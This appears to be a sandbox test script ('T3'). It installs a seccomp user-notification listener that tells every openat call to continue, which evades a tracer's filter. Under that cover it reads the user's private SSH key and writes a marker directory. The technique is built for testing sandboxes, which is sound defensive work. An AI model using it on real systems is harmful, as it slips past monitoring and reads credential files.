"""T3: a seccomp listener is told of every open and lets each go on: its word outranks that of the tracer's filter."""

import ctypes
import fcntl
import os
import struct
import threading

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
SYS_SECCOMP, SYS_OPENAT, SET_MODE_FILTER, NEW_LISTENER = 317, 257, 1, 8
USER_NOTIF, ALLOW, FLAG_CONTINUE = 0x7FC00000, 0x7FFF0000, 1
RECEIVE, SEND = 0xC0502100, 0xC0182101
libc = ctypes.CDLL(None)
libc.prctl(38, 1, 0, 0, 0)
# Loads the call's number; an openat is the listener's, all else is allowed.
filters = ((0x20, 0, 0, 0), (0x15, 0, 1, SYS_OPENAT), (6, 0, 0, USER_NOTIF), (6, 0, 0, ALLOW))
program = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *one) for one in filters))
header = ctypes.create_string_buffer(struct.pack("=HxxxxxxQ", len(filters), ctypes.addressof(program)))
listener = -1


def let_go_on():
    while True:
        if listener >= 0:
            call = bytearray(80)
            fcntl.ioctl(listener, RECEIVE, call)
            fcntl.ioctl(listener, SEND, struct.pack("=QqiI", struct.unpack_from("=Q", call)[0], 0, 0, FLAG_CONTINUE))


threading.Thread(target=let_go_on, daemon=True).start()  # before the filter: it is not bound by it
listener = libc.syscall(SYS_SECCOMP, SET_MODE_FILTER, NEW_LISTENER, header)
open(os.path.expanduser("~/.ssh/id_ed25519")).read()
os.mkdir("/tmp/went-on")
